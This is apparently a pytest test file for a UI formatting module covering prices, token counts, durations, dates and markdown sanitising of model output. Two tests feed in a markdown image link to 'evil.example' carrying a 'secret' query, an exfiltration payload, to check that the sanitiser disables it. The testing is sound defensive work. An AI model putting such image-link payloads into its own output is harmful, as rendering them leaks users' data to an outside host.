"""How numbers, days and texts are written."""

from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pages.ui import formats


@pytest.mark.parametrize(
    ("amount", "text"),
    [
        ("0", "$0"),
        ("0.0042", "$0.0042"),
        ("0.00048123", "$0.00048"),
        ("0.0000231", "$0.000023"),
        ("0.000000001", "$0.0000000010"),
        ("0.00999", "$0.0100"),
        ("0.01", "$0.01"),
        ("0.2449", "$0.24"),
        ("12.4", "$12.40"),
        ("2407.5", "$2,407.50"),
        ("-0.02", "\N{MINUS SIGN}$0.02"),
        ("-0.0042", "\N{MINUS SIGN}$0.0042"),
    ],
)
def test_money(amount: str, text: str) -> None:
    assert formats.money(Decimal(amount)) == text


def test_an_unknown_price_is_never_zero() -> None:
    assert formats.money(None) == "unpriced"


@given(st.decimals(min_value=0, max_value=10**6, places=9))
def test_money_is_never_more_than_half_a_unit_off(amount: Decimal) -> None:
    shown = Decimal(formats.money(amount).replace("$", "").replace(",", ""))
    unit = Decimal("0.01") if amount >= Decimal("0.01") else max(Decimal("0.0001"), amount)
    assert abs(shown - amount) <= unit / 2


@pytest.mark.parametrize(
    ("count", "text"),
    [(0, "0"), (1234, "1,234"), (9999, "9,999"), (12_345, "12.3k"), (999_949, "999.9k"), (999_950, "1.00M"), (1_234_567, "1.23M")],
)
def test_tokens(count: int, text: str) -> None:
    assert formats.tokens(count) == text


@pytest.mark.parametrize(
    ("milliseconds", "text"), [(0, "0.00 s"), (40, "0.04 s"), (95, "0.1 s"), (812, "0.8 s"), (59_949, "59.9 s"), (125_000, "2 min 5 s")]
)
def test_seconds(milliseconds: int, text: str) -> None:
    assert formats.seconds(milliseconds) == text


def test_what_is_not_known_is_a_dash() -> None:
    assert formats.tokens(None) == formats.seconds(None) == formats.UNKNOWN


def test_counts_and_places() -> None:
    assert formats.count(1, "message") == "1 message"
    assert formats.count(1200, "message") == "1,200 messages"
    assert formats.count(2, "person", "people") == "2 people"
    assert [formats.ordinal(place) for place in (1, 2, 3, 4, 11, 12, 13, 21, 112)] == [
        *("1st", "2nd", "3rd", "4th", "11th", "12th", "13th", "21st", "112th")
    ]


def test_days_follow_the_persons_calendar() -> None:
    auckland = ZoneInfo("Pacific/Auckland")
    now = datetime(2026, 3, 2, 20, 0, tzinfo=UTC)
    assert formats.moment(now, auckland) == "3 Mar 2026, 09:00"
    assert formats.day(date(2026, 3, 2)) == "2 Mar"
    assert formats.age_group(now, now, auckland) == "Today"
    assert formats.age_group(now - timedelta(hours=10), now, auckland) == "This week"
    assert formats.age_group(now - timedelta(hours=10), now, UTC) == "Today"
    assert formats.age_group(now - timedelta(days=6), now, UTC) == "This week"
    assert formats.age_group(now - timedelta(days=7), now, UTC) == "Older"


def test_a_models_markdown_cannot_fetch_pictures_or_make_formulas() -> None:
    said = "It costs $5 or $6 ![x](https://evil.example/?q=secret) ![y][z] and `$a ![b](c)` stays\n```\n$1 ![d](e)\n```\n$2"
    joined = said.replace("![", "!\N{WORD JOINER}[")
    assert formats.plain_markdown(said) == joined.replace("$5", "\\$5").replace("$6", "\\$6").replace("$2", "\\$2")
    assert formats.plain_markdown("```unclosed $1") == "```unclosed $1"


@pytest.mark.parametrize(
    "said", ["a ``` ![x](https://evil.example/?q=secret)", r"\`![x](e)\`", "`` ` ![x](e) ` x", r"\![x](e)", "!![x](e)"]
)
def test_no_backtick_or_backslash_brings_a_picture_back(said: str) -> None:
    assert "![" not in formats.plain_markdown(said)
    assert "](" in formats.plain_markdown(said)


def test_a_tooltip_says_when_there_is_no_price() -> None:
    assert (formats.exact(Decimal("0.00012345")), formats.exact(None)) == ("0.00012345 dollars", "unpriced")


@given(st.text(alphabet="ab*_`[]$~:<>#|\\ ", max_size=30))
def test_plain_text_in_a_label_has_every_special_character_escaped(text: str) -> None:
    escaped = formats.as_markdown(text)
    assert escaped.replace("\\\\", "").count("\\") == sum(text.count(mark) for mark in "*_`[]$~:<>#|")
